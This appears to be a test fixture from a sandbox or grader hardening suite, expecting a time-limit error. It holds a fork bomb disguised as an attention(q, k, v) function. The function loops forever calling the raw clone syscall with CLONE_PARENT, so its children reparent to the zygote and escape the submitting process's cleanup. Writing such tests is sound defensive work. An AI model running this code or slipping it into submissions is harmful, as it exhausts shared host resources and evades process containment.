# id: G1
# tries: clones children that belong to the zygote instead of to itself, each of which clones more
# expect: TLE
import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
CLONE_PARENT = 0x8000


def attention(q, k, v):
    while True:
        libc.syscall(220 if platform.machine() == "aarch64" else 56, CLONE_PARENT | 17, 0, 0, 0, 0)
